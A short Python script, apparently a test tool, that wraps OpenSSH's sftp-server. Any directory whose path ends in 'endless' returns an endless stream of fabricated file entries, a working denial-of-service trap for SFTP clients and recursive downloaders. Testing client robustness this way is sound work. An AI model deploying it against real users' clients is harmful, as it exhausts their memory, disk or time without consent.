# An SFTP server that means harm: what it serves is the sftp-server's, but that a directory named "endless" has no end.
#
#     Subsystem sftp python3 endless.py DIRECTORY
import struct
import subprocess
import sys
import threading

CLOSE, OPENDIR, READDIR, HANDLE, NAME = 4, 11, 12, 102, 104
server = subprocess.Popen(["/usr/lib/openssh/sftp-server", "-d", sys.argv[1]], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
asked, endless, lock = set(), set(), threading.Lock()
counter = 0


def packets(stream):
    while True:
        head = stream.read(4)
        if len(head) < 4:
            return
        yield stream.read(struct.unpack(">I", head)[0])


def send(stream, body):
    with lock:
        stream.write(struct.pack(">I", len(body)) + body)
        stream.flush()


def string(data):
    return struct.pack(">I", len(data)) + data


def entries():
    """A packet's worth of names that were never there: each a file of mode 0644, without anything else."""
    global counter
    names = b""
    for _ in range(200):
        counter += 1
        name = b"%0200d" % counter
        names += string(name) + string(name) + struct.pack(">II", 4, 0o100644)
    return struct.pack(">I", 200) + names


def answers():
    for body in packets(server.stdout):
        if body[0] == HANDLE and body[1:5] in asked:
            asked.discard(body[1:5])
            endless.add(body[5:])
        send(sys.stdout.buffer, body)


threading.Thread(target=answers, daemon=True).start()
for body in packets(sys.stdin.buffer):
    if body[0] == OPENDIR and body.endswith(b"/endless"):
        asked.add(body[1:5])
    if body[0] == CLOSE:
        endless.discard(body[5:])  # the server gives the same handle again
    if body[0] == READDIR and body[5:] in endless:
        send(sys.stdout.buffer, bytes([NAME]) + body[1:5] + entries())
    else:
        server.stdin.write(struct.pack(">I", len(body)) + body)
        server.stdin.flush()
server.stdin.close()
